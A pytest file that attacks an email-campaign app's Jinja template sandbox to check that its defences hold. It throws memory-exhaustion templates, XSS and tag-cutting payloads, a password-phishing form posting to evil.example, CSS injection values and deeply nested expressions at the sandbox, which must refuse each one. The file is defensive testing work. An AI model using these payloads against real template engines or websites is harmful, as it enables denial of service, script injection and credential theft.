"""The template sandbox under attack (issue 9, points 3, 4 and 7).

* Memory: every value a template builds is sized *before* it is built, containers
  are never stringified past MAX_VALUE, `%` is capped by its arguments, and the
  whole render shares one budget; the peak allocation of each attack is measured
  with tracemalloc (the old code allocated up to 2 GB for some of these).
* Markup: what Jinja outputs literally is exactly what the sanitiser approved
  ({% raw %} and sanitiser-made delimiters are refused or neutralised, and
  {% if %} cannot cut a tag in two), checked on the sent message and the web view;
  a contact's value printed in a style attribute stays one CSS value.
* Nesting: deeply nested brackets, filters or blocks are refused in words at save
  time, and a bad value already stored never turns a page into a 500.
"""
import email
import email.policy
import tracemalloc

import pytest
from bs4 import BeautifulSoup

from app import tokens
from app.content import prepare
from app.content import sandbox
from app.content.sandbox import RenderError
from app.models import Campaign
from app.models import CaughtMessage
from app.models import Contact
from app.models import Send
from app.models import Template
from tests.campaigns_support import create_draft
from tests.campaigns_support import draft_form
from tests.conftest import soup


def render(source, context=None, autoescape=True):
    template, _names = sandbox.compile_template(source, autoescape)
    return sandbox.render(template, context or {"contact": sandbox.Record({"name": "Ann"})})


# --- Point 3: memory -----------------------------------------------------------------------------

PEAK = 50 * 2 ** 20  # bytes a refused render may allocate, compile included
S = "{% set s = 'x' * 100000 %}"  # the largest single value a template may build

ATTACKS = {
    # Containers stringified: 80 KB of pointers, a gigabyte once printed.
    "string filter": S + "{{ ([s] * 10000)|string }}",
    "printed list": S + "{{ [s] * 10000 }}",
    "printed dict": S + "{{ {'a': [s] * 10000} }}",
    "nested lists": "{{ [[['x'] * 10000] * 10000] * 10000 }}",
    "concat ~": S + "{{ ([s] * 10000) ~ '!' }}",
    "join filter": S + "{{ ([s] * 10000)|join }}",
    "str.join": S + "{{ ''.join([s] * 10000) }}",
    "join of lists": S + "{{ ','.join([[s] * 10000]) }}",
    "replace filter": S + "{{ ([s] * 10000)|replace('x', 'y') }}",
    "upper filter": S + "{{ ([s] * 10000)|upper }}",
    "escape filter": S + "{{ ([s] * 10000)|e }}",
    "urlencode filter": S + "{{ ([s] * 10000)|urlencode }}",
    "wordcount filter": S + "{{ ([s] * 10000)|wordcount }}",
    "truncate filter": S + "{{ ([s] * 10000)|truncate(10) }}",
    "striptags filter": S + "{{ ([s] * 10000)|striptags }}",
    "sort filter": S + "{{ ([[s] * 10000] * 10000)|sort|first }}",
    "min filter": S + "{{ ([[s] * 10000] * 10000)|min }}",
    "list of characters": S + "{{ s|list|length }}",
    "sorted characters": S + "{{ s|sort|length }}",
    "split": "{{ (' ' * 99999).split(' ')|length }}",
    "rsplit with a huge maxsplit": "{{ (' ' * 99999).rsplit(' ', 10**9)|length }}",
    "splitlines": "{{ ('\\n' * 99999).splitlines()|length }}",
    # % formatting: capped by its template and the sum of its arguments.
    "% with many conversions": S + "{% set t = (s,) * 1000 %}{{ ('%s' * 1000) % t }}",
    "% with a mapping read again": S + "{{ ('%(a)s' * 10000) % {'a': s} }}",
    "% with widths": "{{ ('%9999s' * 10000) % ((1,) * 10000) }}",
    "% with precision": "{{ ('%.9999f' * 10000) % ((1.5,) * 10000) }}",
    "% of a list": S + "{{ '%s' % ([s] * 10000,) }}",
    # Every value built is charged to the render's budget before it exists.
    "slices kept": S + "".join("{%% set a%d = s[%d:] %%}" % (i, i) for i in range(1000)),
    "sums kept": S + "".join("{%% set a%d = s + '%d' %%}" % (i, i) for i in range(1000)),
    "list concatenation": S + "{% set l = [s] * 10000 %}{{ (l + l)|length }}",
    # The output is counted as it is generated, not after.
    "output": S + "{{ s }}" * 1000,
    # What does not exist cannot be abused.
    "center": S + "{{ s|center(10**6) }}",
    "indent": S + "{{ s|indent(10**6) }}",
    "format filter": S + "{{ '%s'|format(s) }}",
    "wordwrap": S + "{{ s|wordwrap(1) }}",
    "tojson": S + "{{ ([s] * 10000)|tojson }}",
    "batch": S + "{{ ([s] * 10000)|batch(1)|list }}",
    "range": "{{ range(10**9)|list }}",
    "str.format": "{{ '{:>99999}'.format(1) * 99999 }}",
    "ljust": "{{ 'x'.ljust(10**9) }}",
    "rjust": "{{ 'x'.rjust(10**9) }}",
    "str.center": "{{ 'x'.center(10**9) }}",
    "zfill": "{{ 'x'.zfill(10**9) }}",
    "expandtabs": "{{ ('\t' * 99999).expandtabs(10**4) }}",
    "loops": S + "{% for a in [s] * 10000 %}{% for b in [s] * 10000 %}{{ a }}{% endfor %}{% endfor %}",
    "dicts built in loops": "{% for i in [1] * 10000 %}{% set d = {i: [i] * 10000} %}{% endfor %}",
    # Compiling costs memory per token: 300 KB of `{{ a }}` took 430 MB.
    "compile": "{{ a }}" * 42000,
}


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("autoescape", [True, False], ids=["html", "text"])
def test_attacks_are_refused_before_they_allocate(source, autoescape):
    tracemalloc.start()
    try:
        with pytest.raises(RenderError):
            render(source, autoescape=autoescape)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < PEAK, f"{peak / 2 ** 20:.0f} MB"


def test_output_stops_as_soon_as_it_passes_the_limit():
    template, _names = sandbox.compile_template(S + "{{ s }}" * 1000, True)
    produced = []
    with pytest.raises(RenderError, match="output would be longer"):
        for chunk in sandbox.generate(template, {}):
            produced.append(len(chunk))
    assert sum(produced) <= sandbox.MAX_OUTPUT and len(produced) <= sandbox.MAX_OUTPUT // 100_000 + 1


def test_what_personalisation_needs_still_works():
    contact = {"contact": sandbox.Record({"name": "Ann Lee", "seats": 3, "tags": "a,b,c"})}
    assert render("{{ contact.name.split()|join(', ') }}", contact) == "Ann, Lee"
    assert render("{{ '%s has %d seats' % (contact.name, contact.seats) }}", contact) == "Ann Lee has 3 seats"
    assert render("{{ '%(name)s!' % contact }} {{ '%5.1f%%' % 12.34 }}", contact) == "Ann Lee!  12.3%"
    assert render("{{ [1, 'a'] }} {{ {'k': 1} }} {{ contact.tags.split(',', 1) }}", contact, autoescape=False) == \
        "[1, 'a'] {'k': 1} ['a', 'b,c']"
    assert render("{{ contact.name[:3] }} {{ contact.name[::-1] }} {{ [1, 2, 3][1:]|join }}", contact) == "Ann eeL nnA 23"
    assert render("{{ contact.name ~ '!' }} {{ contact.name + '?' }} {{ ([1] + [2])|sum }}", contact) == \
        "Ann Lee! Ann Lee? 3"
    assert render("{{ contact.tags.split(',')|sort|reverse|join('-') }} {{ contact.name|list|length }}", contact) == \
        "c-b-a 7"
    assert render("{{ ([contact] * 10000)|length }} {{ ([[contact] * 10000] * 10000)|first|length }}", contact) == \
        "10000 10000"  # a big list is fine as long as nothing prints or walks it
    # The largest allowed value can still be built and printed once.
    assert len(render(S + "{{ s }}")) == 100_000


# --- Point 4: nothing reaches the inbox or the web view that the sanitiser did not approve ------------

SCRIPT = "{{ '<script>alert(1)</script>' }}"
FORM = ("{{ '<form action=\"https://evil.example/\"><input name=\"password\"></form>"
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
        "<a href=\"javascript:alert(1)\">x</a>' }}")
RAW = {
    "raw script": "<p>Hi</p>{% raw %}" + SCRIPT + "{% endraw %}",
    "raw form": "<p>Hi</p>\n{%- raw -%}" + FORM + "{% endraw %}",
}
# A condition whose parts sit inside and outside a tag cuts the tag in two.
CUTS = {
    "attribute to text": '<p><a href="https://example.com/{% if contact.vip %}">x</a>{% endif %}" onmouseover="alert(1)" '
                         'x="</p>',
    "text to attribute": '<p>{% if contact.vip %}<a title="{% endif %}" onmouseover="alert(1)">x</a></p>',
    "two attributes": '<p title="{% if contact.vip %}" class="x {% endif %}">x</p>',
}
# The sanitiser itself can make a delimiter by removing a tag: "{<x></x>% raw %}" is "{% raw %}" after it.
MADE = "<p>{<x></x>% raw %}" + SCRIPT + "{<x></x>% endraw %}</p><p>{<x></x>{ 1 }}</p>"


def assert_harmless(markup):
    page = BeautifulSoup(markup, "html.parser")
    assert not page.select("script, form, input, meta[http-equiv], base, iframe"), markup
    for element in page.find_all(True):
        assert not [name for name in element.attrs if name.startswith("on")], markup
        for name in ("href", "src"):
            assert not "".join((element.get(name) or "").split()).lower().startswith("javascript:"), markup


@pytest.mark.parametrize("body", [*RAW.values(), *CUTS.values()], ids=[*RAW, *CUTS])
def test_raw_blocks_and_cut_tags_are_refused_at_save_with_the_line(body):
    with pytest.raises(RenderError, match=r"^Line \d+: .*(raw|different places)"):
        prepare.clean_source(body, "html")
    with pytest.raises(RenderError, match="raw|different places"):  # and when a stored body is rendered
        prepare.prepare(body, "html", "Subject")


def test_delimiters_made_by_the_sanitiser_stay_text():
    saved = prepare.clean_source(MADE, "html")
    assert "{%" not in saved.replace(SCRIPT, "")
    prepared = prepare.prepare(MADE, "html", "Subject")
    out = sandbox.render(prepared.html_template, {"contact": sandbox.Record({"name": "A"})})
    assert_harmless(out)
    assert "&lt;script&gt;" in out and "{% raw %}" in BeautifulSoup(out, "html.parser").text
    # A "{" left just before a construct must not join it into "{{{ … }}".
    prepared = prepare.prepare("<p>{<x></x>{{ contact.name }}</p>", "html", "Subject")
    context = {"contact": sandbox.Record({"name": "Ann"})}
    assert "<p>&#123;Ann</p>" in sandbox.render(prepared.html_template, context)
    assert "{Ann" in sandbox.render(prepared.text_template, context)
    # An opener the author left open is still their syntax error, not text.
    with pytest.raises(RenderError, match="Line 2"):
        prepare.prepare("<p>a</p>\n<p>{{ contact.name </p>", "html", "Subject")


def test_conditions_in_one_place_still_work():
    body = ('<table>{% if contact.vip %}<tr><td class="{% if contact.vip %}gold{% else %}red'
            '{% endif %}">VIP</td></tr>{% elif contact.name %}<tr><td>{{ contact.name }}</td></tr>{% endif %}</table>'
            '<a href="https://example.com/{% if contact.vip %}vip{% endif %}">x</a>')
    saved = prepare.clean_source(body, "html")
    prepared = prepare.prepare(saved, "html", "Subject")
    out = sandbox.render(prepared.html_template, {"contact": sandbox.Record({"name": "Ann", "vip": True})})
    assert 'class="gold"' in out and 'href="https://example.com/vip"' in out


@pytest.mark.parametrize("value,printed", [
    ("#b91c1c", "#b91c1c"), ("bold", "bold"), ("rgb(1, 2, 3)", "rgb(1, 2, 3)"),
    ("red; background: url(https://evil.example/track)", ""), ("red;position:fixed;top:0", ""),
    ("expression(alert(1))", ""), ('red" onmouseover="alert(1)', ""), ("\\75 rl(x)", ""),
])
def test_a_contact_value_in_a_style_stays_one_css_value(value, printed):
    prepared = prepare.prepare('<p style="color: {{ contact.colour }}; font-weight: bold;">{{ contact.colour }}</p>',
                               "html", "Subject")
    out = sandbox.render(prepared.html_template, {"contact": sandbox.Record({"colour": value})})
    paragraph = BeautifulSoup(out, "html.parser").select_one("p")
    assert paragraph["style"] == f"color: {printed}; font-weight: bold;"
    assert paragraph.text == value  # in the text it is just (escaped) text


@pytest.mark.parametrize("body", [RAW["raw script"], RAW["raw form"], CUTS["attribute to text"], MADE],
                         ids=["raw script", "raw form", "cut", "made by the sanitiser"])
def test_the_sent_message_and_the_web_view_carry_nothing_unapproved(app, web, ready_team, body):  # noqa: F811
    team, news = ready_team
    campaign = create_draft(web, news)
    # Stored as it is (campaign bodies are cleaned when rendered; this one may predate the checks).
    Campaign.update(body=body).where(Campaign.id == campaign.id).execute()
    sent = web.post(f"/campaigns/{campaign.id}/test", {"addresses": "me@example.com"}, htmx=True)
    assert sent.status_code < 500
    for message in CaughtMessage.select():
        parsed = email.message_from_bytes(bytes(message.raw), policy=email.policy.default)
        assert_harmless(parsed.get_body(preferencelist=("html",)).get_content())
    if body != MADE:
        assert CaughtMessage.select().count() == 0
        assert "raw" in sent.get_data(as_text=True) or "different places" in sent.get_data(as_text=True)
    else:
        assert CaughtMessage.select().count() == 1
    contact = Contact.get(Contact.email == "reader0@example.com")
    send = Send.create(campaign=campaign.id, contact=contact, email=contact.email, status="sent")
    Campaign.update(state="completed").where(Campaign.id == campaign.id).execute()
    with app.app_context():
        token = tokens.sign("view", send.id)
    view = app.test_client(use_cookies=False).get(f"/v/{token}")
    assert view.status_code == (200 if body == MADE else 404)
    assert_harmless(view.get_data(as_text=True))


# --- Point 7: nesting -----------------------------------------------------------------------------

DEEP = {
    "parentheses": "{{ " + "(" * 100 + "1" + ")" * 100 + " }}",
    "brackets": "{{ " + "[" * 100 + "1" + "]" * 100 + " }}",
    "dicts": "{{ " + "{'a': " * 100 + "1" + "}" * 100 + " }}",
    "filters": "{{ 1" + "|abs" * 1000 + " }}",
    "additions": "{{ 1" + " + 1" * 1000 + " }}",
    "nots": "{{ " + "not " * 1000 + "1 }}",
    "method calls": "{{ contact.name" + ".upper()" * 100 + " }}",
    "attributes": "{{ contact" + ".a" * 1000 + " }}",
    "conditions": "{{ " + "1 if 1 else " * 1000 + "1 }}",
    "if blocks": "{% if 1 %}" * 100 + "x" + "{% endif %}" * 100,
}


@pytest.mark.parametrize("source", DEEP.values(), ids=DEEP.keys())
@pytest.mark.parametrize("autoescape", [True, False], ids=["html", "text"])
def test_deep_nesting_is_refused_in_words(source, autoescape):
    with pytest.raises(RenderError, match="nests .* too deeply"):
        sandbox.compile_template(source, autoescape)


def test_ordinary_nesting_still_works():
    assert render("{{ ((((1 + 2) * 3) - 4) // 5) }}") == "1"
    assert render("{% if 1 %}{% if 2 %}{% if 3 %}{{ contact.name|lower|upper|trim }}{% endif %}{% endif %}{% endif %}") \
        == "ANN"
    assert render("{{ [[[1]]][0][0][0] }} {{ {'a': {'b': 2}}['a']['b'] }}") == "1 2"


def test_a_deep_subject_or_body_is_refused_at_save_with_the_input_kept(web, ready_team):  # noqa: F811
    team, news = ready_team
    deep = "Hi " + "(" * 100 + ")" * 100
    # a campaign's subjects are compiled like this when saved (campaigns.drafts.check_subjects)
    with pytest.raises(RenderError, match="too deeply"):
        sandbox.compile_template("{{ %s }}" % deep[3:], autoescape=False)
    created = web.post("/templates/new", {"name": "Deep", "kind": "html", "body": "<p>{{ %s }}</p>" % deep[3:]})
    assert created.status_code == 422
    assert "too deeply" in soup(created).text
    assert "(" * 100 in soup(created).select_one("[name=body]").text
    assert Template.select().where(Template.name == "Deep").count() == 0
    campaign = create_draft(web, news)
    subject = "{{ " + deep[3:] + " }}"
    refused = web.post(f"/campaigns/{campaign.id}", draft_form(news, subject=subject))
    assert refused.status_code == 422
    assert "too deeply" in soup(refused).select_one("#e-subject").text
    assert soup(refused).select_one("[name=subject]")["value"] == subject
    assert Campaign.get_by_id(campaign.id).subject == "Hello {{ contact.name }}"


def test_a_deep_subject_already_stored_does_not_break_the_campaign_pages(app, web, ready_team):  # noqa: F811
    team, news = ready_team
    campaign = create_draft(web, news)
    # Stored before the check existed (or written behind the form's back).
    Campaign.update(subject="{{ " + "(" * 100 + "1" + ")" * 100 + " }}").where(Campaign.id == campaign.id).execute()
    page = web.get(f"/campaigns/{campaign.id}")
    assert page.status_code == 200
    assert any("too deeply" in li.text for li in soup(page).select("ul.problems li"))
    assert web.get("/campaigns/").status_code == 200
    pane = web.get(f"/campaigns/{campaign.id}/preview", headers={"HX-Request": "true"})
    assert pane.status_code == 200 and "too deeply" in pane.get_data(as_text=True)
    assert web.get(f"/campaigns/{campaign.id}/preview.html").status_code < 500


STORED = {
    "deep subject": {"subject": "{{ " + "(" * 100 + "1" + ")" * 100 + " }}"},
    "deep body": {"body": "<p>{{ 1" + "|abs" * 1000 + " }}</p>"},
    "too much code": {"body": "<p>{{ a }}</p>" * 5000},
    "raw body": {"body": RAW["raw script"]},
    "cut body": {"body": CUTS["attribute to text"]},
    "memory bomb": {"body": S + "<p>{{ ([s] * 10000)|string }}</p>"},
    "unclosed": {"subject": "Hi {{ contact.name", "body": "<p>{{ contact.name </p>"},
}


@pytest.mark.parametrize("stored", STORED.values(), ids=STORED.keys())
def test_a_bad_value_already_stored_never_makes_a_page_fail(app, web, ready_team, stored):  # noqa: F811
    team, news = ready_team
    campaign = create_draft(web, news)
    Campaign.update(**stored).where(Campaign.id == campaign.id).execute()
    template = Template.create(team=team, name="Stored", kind="html", body=stored.get("body", "<p>x</p>"))
    pages = [f"/campaigns/{campaign.id}", "/campaigns/", f"/campaigns/{campaign.id}/preview",
             f"/campaigns/{campaign.id}/preview.html", f"/templates/{template.id}", "/templates/",
             f"/templates/{template.id}/preview", f"/templates/{template.id}/preview.html"]
    for url in pages:
        response = web.get(url, headers={"HX-Request": "true"} if url.endswith("/preview") else {})
        assert response.status_code < 500, url
    for url in (f"/campaigns/{campaign.id}/test", f"/templates/{template.id}/test"):
        response = web.post(url, {"addresses": "me@example.com"}, htmx=True)
        assert response.status_code < 500, url
    assert CaughtMessage.select().count() == 0
    published = web.post(f"/campaigns/{campaign.id}/publish", {"when": "now"}, follow_redirects=True)
    assert published.status_code < 500 and Campaign.get_by_id(campaign.id).state == "draft"
